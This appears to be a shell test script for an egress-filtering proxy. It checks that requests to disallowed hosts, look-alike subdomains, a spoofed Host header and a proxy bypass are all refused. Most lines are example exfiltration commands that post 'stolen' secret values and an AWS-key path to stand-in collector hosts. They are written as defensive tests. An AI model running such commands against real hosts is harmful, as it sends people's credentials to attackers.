# A host name that is not allowed, though our own name server knows where it is.
need curl
harmless allowed "https://origin.attack.test:$PORT/"
for name in collector.attack.test evil-origin.attack.test origin.attack.test.collector.test sub.origin.attack.test attack.test \
	wild.attack.test notwild.attack.test; do
	for port in "$COLLECTOR_PORT" "$PORT" 443; do
		attack "$name:$port" "refused no-route" "$(fetch -d "stolen=$KNOWN_GENERIC" "https://$name:$port/$KNOWN_AWS")"
	done
	attack "plain $name" "refused no-route" "$(fetch -d "stolen=$KNOWN_GENERIC" "http://$name/")"
done
attack "spoofed host" "refused authority-mismatch" "$(fetch -H "Host: collector.attack.test:$COLLECTOR_PORT" "https://origin.attack.test:$PORT/")"
attack "without the proxy" unreachable "$(fetch --noproxy '*' --resolve "collector.attack.test:$COLLECTOR_PORT:$COLLECTOR_IP" "https://collector.attack.test:$COLLECTOR_PORT/")"
